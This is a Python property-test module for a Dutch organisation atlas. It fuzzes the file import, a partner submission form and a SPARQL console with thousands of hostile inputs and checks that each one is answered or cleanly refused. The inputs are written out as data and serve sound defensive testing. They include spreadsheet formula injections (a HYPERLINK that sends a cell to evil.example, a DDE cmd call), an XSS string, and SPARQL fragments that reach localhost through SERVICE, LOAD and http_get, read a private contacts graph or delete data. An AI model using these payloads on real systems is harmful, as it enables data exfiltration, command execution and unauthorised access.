"""Over ten thousand generated hostile inputs through the import, the partner form and the console.

Every input ends in an answer or a clear refusal (a located problem, a refused file, a console message), never
in an unhandled exception; a refused import or submission leaves the store exactly as it was. Most inputs go
through the real reader and the row rules on real files (what ``validate`` does, without the SHACL pass), and
what those rules accept is turned into store terms, which is where a value the store cannot write would fail;
a sample goes through the whole import or submission into an embedded store. The counts are printed at the end.
"""

from __future__ import annotations

import csv
import re
import shutil
import string
import tempfile
import warnings
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.intake.importer import import_path, validation_context
from graph.intake.mapping import records_graphs
from graph.intake.submissions import NewOrganisation, SubmissionForm, form_tables, submissions, submit
from graph.intake.tables import read_input
from graph.intake.template import TABLE_COLUMNS, InputError, Problem
from graph.intake.validate import ValidationContext, validate_tables
from graph.model.records import RecordSet
from graph.model.terms import to_ox
from graph.model.viewer import COMMAND_LINE
from graph.settings import Settings
from graph.store.atlas import Atlas
from graph.views.console import ConsoleError, run_console

from .conftest import EVERYTHING, TINY
from .test_bad_files import BAD_ADDRESSES, GOOD_ADDRESSES

pytestmark = pytest.mark.slow

# What XML 1.0 cannot hold (control characters, U+FFFE/FFFF): no workbook can carry it.
NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
COUNTS: Counter[str] = Counter()
RUNS = {"import_checked": 5_000, "import_written": 30, "form_checked": 4_000, "form_submitted": 30, "console": 1_000}


def runs(name: str) -> settings:
    return settings(
        max_examples=RUNS[name],
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# --- hostile values -----------------------------------------------------------------------------------------------

EVERY_CHARACTER = st.characters(exclude_categories=())  # control characters and lone surrogates included
CONTROLS = st.text(
    st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f\u202e\u2066\u200b\u200f\ufeff\ufffe\ud800")
)
FORMULAS = st.sampled_from(
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "+31 6 1234 5678",
        "- eerste punt",
        "@SUM(A1:A9)",
        "\t=1",
        "'=1",
        "'s-Hertogenbosch",
    ]
)
CSV_BREAKERS = st.sampled_from(['"', '""', '","', "\r", "\n", "\r\n", ",", ";", "\ufeff", '"\n"', 'a"b', "\x00", "\\"])
ADDRESSES = st.sampled_from(GOOD_ADDRESSES + BAD_ADDRESSES) | st.builds(
    "https://a.example/{}".format, st.text(EVERY_CHARACTER, max_size=12)
)
DATES = st.one_of(
    st.dates().map(str),
    st.from_regex(r"\A[0-9]{1,5}(-[0-9]{1,3}){0,3}\Z"),
    st.sampled_from(["2025-02-30", "0000", "2025-13", "1899", "2101-01-01", "2025-1-1", "２０２５", "٢٠٢٥-٠١"]),
)
NUMBERS = st.one_of(
    st.floats().map(repr),
    st.integers().map(str),
    st.decimals(allow_nan=True).map(str),
    st.sampled_from(["nan", "inf", "-inf", "1e309", "52,1", "٥٢.١", "1_000", "0x10", "+", ".", " 52.1 ", "4.9e-324"]),
)
HUGE = st.sampled_from(["x" * 5_000, "é" * 70_000, "\U0001d54f" * 40_000, "a,b\n" * 10_000, '"' * 9_999])
IDS = st.sampled_from(["lib-a", "a-woerden", "x-woerden", "c1", "", "-x", "a" * 101, "a b", "a/b", "ä"])
ATOMS = st.one_of(
    st.text(EVERY_CHARACTER, max_size=30),
    CONTROLS,
    FORMULAS,
    CSV_BREAKERS,
    ADDRESSES,
    DATES,
    NUMBERS,
    IDS,
    st.sampled_from(["<script>alert(1)</script>", "yes", "NEE", "werk;;ontmoeting", "GM0632", "3441 bg", "a@b.nl"]),
)
HOSTILE = st.one_of(ATOMS, HUGE, st.lists(ATOMS, min_size=2, max_size=4).map("".join))


def tiny_rows() -> dict[str, list[dict[str, str]]]:
    rows = {}
    for name in TABLE_COLUMNS:
        with open(TINY / f"{name}.csv", encoding="utf-8", newline="") as handle:
            rows[name] = list(csv.DictReader(handle))
    return rows


TINY_ROWS = tiny_rows()


@st.composite
def input_files(draw: st.DrawFn, mild: bool = False) -> tuple[str, dict[str, list[list[str]]], bytes]:
    """A kind of file ("csv", "xlsx", "raw" or "ttl"), the tiny tables with hostile cells, headers and rows, or
    raw bytes; ``mild``: the three CSV files, whole, with at most one hostile cell (so that some are imported)."""
    kind = "csv" if mild else draw(st.sampled_from(["csv"] * 17 + ["raw", "ttl", "xlsx"]))
    if kind == "raw":
        return (
            kind,
            {},
            draw(
                st.binary(max_size=300)
                | st.lists(EVERY_CHARACTER | CSV_BREAKERS, max_size=100)
                .map("".join)
                .map(lambda text: text.encode("utf-8", "surrogatepass"))
            ),
        )
    if kind == "ttl":
        value = draw(HOSTILE).replace("\\", "\\\\").replace('"', '\\"')
        text = (
            "@prefix org: <http://www.w3.org/ns/org#> . @prefix schema: <https://schema.org/> .\n"
            "@prefix dct: <http://purl.org/dc/terms/> .\n"
            f'<https://w3id.org/passendwerk/id/organisation/h> a org:Organization ; dct:identifier "{value}" ;\n'
            f'  schema:name "{value}" ; schema:url <{draw(ADDRESSES)}> ;\n'
            "  org:classification <https://w3id.org/passendwerk/id/kind/care> .\n"
        )
        return kind, {}, text.encode("utf-8", "surrogatepass")
    tables: dict[str, list[list[str]]] = {}
    for name, columns in TABLE_COLUMNS.items():
        if not mild and draw(st.integers(0, 9)) == 0:
            continue  # the file is missing
        header = list(columns)
        if not mild and draw(st.integers(0, 5)) == 0:
            header = draw(st.permutations(header))[: draw(st.integers(0, len(header)))] + draw(
                st.lists(HOSTILE | st.sampled_from(["id", "ID ", "name"]), max_size=2)
            )
        rows = [[row.get(column, "") for column in header] for row in TINY_ROWS[name]]
        rows = rows[: draw(st.integers(0, len(rows)))] if not mild and draw(st.integers(0, 4)) == 0 else rows
        for _ in range(draw(st.integers(0, 1 if mild else 3))):
            if rows and header:
                row, column = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, len(header) - 1))
                rows[row][column] = draw(HOSTILE)
        tables[name] = [header, *rows]
    return kind, tables, b""


def write_files(folder: Path, kind: str, tables: dict[str, list[list[str]]], raw: bytes) -> Path:
    """The drawn input as real files: a folder of CSV files, a workbook or a Turtle file."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    if kind == "raw":
        (folder / "organisations.csv").write_bytes(raw)
        return folder
    if kind == "ttl":
        (folder / "atlas.ttl").write_bytes(raw)
        return folder / "atlas.ttl"
    if kind == "xlsx":
        from openpyxl import Workbook

        workbook = Workbook()
        if tables:  # a workbook needs one sheet
            workbook.remove(workbook.active)
        for name, grid in tables.items():
            sheet = workbook.create_sheet(name)
            for row in grid:
                # XML 1.0 cannot hold these (openpyxl with lxml refuses them), so no workbook can either
                sheet.append([NOT_XML.sub("", cell.encode("utf-8", "replace").decode()) for cell in row])
        workbook.save(folder / "atlas.xlsx")
        return folder / "atlas.xlsx"
    for name, grid in tables.items():
        with open(folder / f"{name}.csv", "w", encoding="utf-8", errors="surrogatepass", newline="") as handle:
            csv.writer(handle).writerows(grid)
    if not tables:
        (folder / "organisations.csv").write_text("")
    return folder


def assert_clear(problems: list[Problem]) -> None:
    for problem in problems:
        assert problem.file and problem.message_nl and problem.message_en, problem
        assert len(problem.render()) < 2_000, problem.render()[:300]  # a hostile value is never echoed in full


def assert_writable(records: RecordSet) -> None:
    """What the row rules accept can be written: every term converts to the store's terms."""
    public, private = records_graphs(records, None)
    for graph in (public, private):
        for triple in graph:
            for term in triple:
                to_ox(term)


# --- fixtures -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def atlas(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Atlas]:
    """An embedded store with the tiny graph (no reference data: points are checked against the country's extent).

    When the module is done, the counts are written to the terminal (also when output is captured).
    """
    atlas = Atlas.open(Settings(store=str(tmp_path_factory.mktemp("scale") / "store"), reference=None))
    assert import_path(atlas, TINY, agent="test").ok
    failed_before = request.session.testsfailed
    yield atlas
    total = sum(COUNTS[name] for name in RUNS)
    if request.session.testsfailed == failed_before:
        lines = [f"hostile inputs: {total:,} in all; 0 unhandled exceptions; 0 partial writes"]
    else:
        lines = [f"hostile inputs: {total:,} in all; FAILED, see above"]
    lines += [f"  {name}: {COUNTS[name]:,} ({outcomes(name)})" for name in RUNS]
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is None or capture is None:  # a pytest-xdist worker: the counts reach the summary as a warning
        warnings.warn(" / ".join(lines), UserWarning, stacklevel=1)
        return
    with capture.global_and_fixture_disabled():  # what capsys.disabled() does, for a module's fixture
        for line in ["", *lines]:
            reporter.write_line(line)


def outcomes(run: str) -> str:
    counted = sorted((key.split(":", 1)[1], value) for key, value in COUNTS.items() if key.startswith(run + ":"))
    return ", ".join(f"{outcome} {value:,}" for outcome, value in counted)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Where the drawn files are written: a folder in memory (tmpfs) when there is one, since creating and
    removing thousands of small files on a busy disk took most of this run's time."""
    memory = Path("/dev/shm")
    if not memory.is_dir():
        yield tmp_path_factory.mktemp("hostile")
        return
    folder = Path(tempfile.mkdtemp(prefix="passendwerk-hostile-", dir=memory))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def context(atlas: Atlas) -> ValidationContext:
    return validation_context(atlas)


# --- the import ---------------------------------------------------------------------------------------------------


@runs("import_checked")
@given(drawn=input_files())
def test_hostile_files_are_checked_or_refused_clearly(
    context: ValidationContext, scratch: Path, drawn: tuple[str, dict[str, list[list[str]]], bytes]
) -> None:
    path = write_files(scratch / "checked", *drawn)
    COUNTS["import_checked"] += 1
    try:
        tables = read_input(path)
    except InputError as refused:
        assert str(refused) and len(str(refused)) < 2_000
        COUNTS["import_checked:file refused"] += 1
        return
    records, problems = validate_tables(tables, context)
    assert_clear(problems)
    if problems:
        COUNTS["import_checked:rows refused"] += 1
    else:
        assert_writable(records)
        COUNTS["import_checked:accepted"] += 1


@runs("import_written")
@given(drawn=input_files(mild=True))
def test_hostile_imports_write_all_or_nothing(
    atlas: Atlas, scratch: Path, drawn: tuple[str, dict[str, list[list[str]]], bytes]
) -> None:
    path = write_files(scratch / "written", *drawn)
    COUNTS["import_written"] += 1
    before = atlas.store.dump(private=EVERYTHING)
    try:
        report = import_path(atlas, path, agent="hostile")
    except InputError:
        COUNTS["import_written:file refused"] += 1
        assert atlas.store.dump(private=EVERYTHING) == before
        return
    if report.ok:
        assert report.written and report.activity.encode() in atlas.store.dump()
        COUNTS["import_written:imported"] += 1
    else:
        assert_clear(report.problems)
        assert not report.written and atlas.store.dump(private=EVERYTHING) == before
        COUNTS["import_written:refused"] += 1


# --- the partner form ---------------------------------------------------------------------------------------------

COORDINATES = st.one_of(st.none(), st.floats(), st.floats(50.8, 53.5))
BASE_FORM: dict[str, object] = {
    "library_site_id": "a-utrecht",
    "care_site_id": "w-utrecht",
    "activities": ("werk",),
    "status": "active",
    "start_date": "2025-02",
    "participants": "5",
    "description": "Deelnemers draaien de koffiecorner.",
    "link": "https://example.org/koffie",
    "contact_name": "Sanne Zichtbaar",
    "contact_email": "sanne@example.org",
    "contact_phone": "030 123 4567",
    "contact_consent": True,
    "submitter_email": "partner@example.org",
}


@st.composite
def new_organisations(draw: st.DrawFn) -> NewOrganisation:
    """A new library that is valid but for one or two hostile fields."""
    fields: dict[str, object] = {"name": "Bibliotheek Nieuw", "town": "Woerden", "lat": 52.086, "lon": 4.884}
    choices = {"name": HOSTILE, "town": HOSTILE, "lat": COORDINATES, "lon": COORDINATES}
    choices |= {"address": HOSTILE, "postcode": HOSTILE | st.just("3441 BG"), "website": ADDRESSES}
    for name in draw(st.lists(st.sampled_from(sorted(choices)), min_size=1, max_size=2, unique=True)):
        fields[name] = draw(choices[name])
    return NewOrganisation(**fields)  # type: ignore[arg-type]


FORM_FIELDS = {
    "library_site_id": IDS | HOSTILE,
    "new_library": new_organisations(),
    "care_site_id": IDS | HOSTILE,
    "activities": st.lists(st.sampled_from(["werk", "ontmoeting"]) | HOSTILE, max_size=3).map(tuple),
    "activity_other": HOSTILE,
    "status": st.sampled_from(["active", "ended", "exploring", ""]) | HOSTILE,
    "start_date": DATES,
    "participants": NUMBERS,
    "description": HOSTILE,
    "link": ADDRESSES,
    "contact_name": HOSTILE,
    "contact_role": HOSTILE,
    "contact_email": HOSTILE,
    "contact_phone": HOSTILE,
    "contact_consent": st.booleans(),
    "submitter_email": HOSTILE,
}


@st.composite
def forms(draw: st.DrawFn) -> SubmissionForm:
    """A form that is valid but for one to three hostile fields, so that each reaches every later check."""
    values = dict(BASE_FORM)
    for name in draw(st.lists(st.sampled_from(sorted(FORM_FIELDS)), min_size=1, max_size=3, unique=True)):
        values[name] = draw(FORM_FIELDS[name])
    return SubmissionForm(**values)  # type: ignore[arg-type]


@runs("form_checked")
@given(form=forms())
def test_hostile_forms_are_checked_or_refused_clearly(context: ValidationContext, form: SubmissionForm) -> None:
    COUNTS["form_checked"] += 1
    tables = form_tables(form, "PW-HOSTILE1")
    records, problems = validate_tables(tables, context)
    assert_clear(problems)
    if problems:
        COUNTS["form_checked:refused"] += 1
    else:
        assert_writable(records)
        COUNTS["form_checked:accepted"] += 1


@runs("form_submitted")
@given(form=forms())
def test_hostile_submissions_are_stored_whole_or_not_at_all(atlas: Atlas, form: SubmissionForm) -> None:
    COUNTS["form_submitted"] += 1
    before, public = len(submissions(atlas, viewer=COMMAND_LINE)), atlas.store.dump()
    result = submit(atlas, form)
    assert len(submissions(atlas, viewer=COMMAND_LINE)) == before + (1 if result.ok else 0)
    assert atlas.store.dump() == public  # nothing pending is ever public
    assert_clear(result.problems)
    COUNTS["form_submitted:" + ("stored" if result.ok else "refused")] += 1


# --- the console --------------------------------------------------------------------------------------------------

PRIVATE = "<https://w3id.org/passendwerk/graph/private/contacts>"
FRAGMENTS = st.sampled_from(
    [
        "SELECT",
        "ASK",
        "CONSTRUCT",
        "DESCRIBE",
        "*",
        "?s",
        "?o",
        "WHERE",
        "{",
        "}",
        "?s ?p ?o",
        ".",
        f"FROM {PRIVATE}",
        f"FROM NAMED {PRIVATE}",
        f"GRAPH {PRIVATE} {{ ?s ?p ?o }}",
        "SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o }",
        "# it's a test\n",
        "# that's all\n",
        "'",
        '"',
        '"""',
        "\n",
        "LIMIT 3",
        "FILTER(",
        ")",
        "(bif:http_get('http://127.0.0.1:9/') AS ?x)",
        '<http://www.openlinksw.com/schemas/bif#http_get>("http://127.0.0.1:9/")',
        "PREFIX bif: <http://www.openlinksw.com/schemas/bif#>",
        "PREFIX service: <http://a.example/>",
        "?service",
        "pw:SERVICE",
        "INSERT DATA { <a:b> <a:c> <a:d> }",
        "DELETE WHERE { ?s ?p ?o }",
        "LOAD <http://127.0.0.1:9/x>",
        ";",
        "BIND(1 AS ?x)",
        "VALUES ?x { 1 }",
        "schema:name",
        "vcard:fn",
        "(COUNT(*) AS ?n)",
        "GROUP BY ?s",
        "ORDER BY ?s",
        "OPTIONAL { ?s vcard:hasEmail ?o }",
        "UNION",
        'REGEX(?o, "(a+)+$")',
        "\\u0053ELECT",
        "SELECT ?n WHERE { ?o schema:name ?n }",
    ]
)
QUERIES = st.one_of(
    st.lists(FRAGMENTS | ATOMS, max_size=20).map(" ".join),
    st.builds("SELECT ?s WHERE {{ ?s ?p ?o FILTER(STR(?o) = {}) }} LIMIT 5".format, ATOMS.map(repr)),
    st.builds("ASK {{ ?s schema:name {} }}".format, ATOMS.map(lambda value: '"' + value.replace('"', "") + '"')),
    st.text(EVERY_CHARACTER | st.sampled_from(string.punctuation), max_size=60),
)


@runs("console")
@given(query=QUERIES)
def test_hostile_console_questions_get_an_answer_or_a_clear_refusal(atlas: Atlas, query: str) -> None:
    COUNTS["console"] += 1
    try:
        result = run_console(atlas.store, query)
    except ConsoleError as refused:
        assert refused.message_nl and refused.message_en
        COUNTS["console:refused"] += 1
        return
    assert result.form in ("SELECT", "ASK", "CONSTRUCT", "DESCRIBE")
    COUNTS["console:answered"] += 1


def test_over_ten_thousand_hostile_inputs_were_fed() -> None:
    """Runs after the property tests of this module; fails when they were deselected or fell short."""
    total = sum(COUNTS[name] for name in RUNS)
    assert total >= 10_000, COUNTS
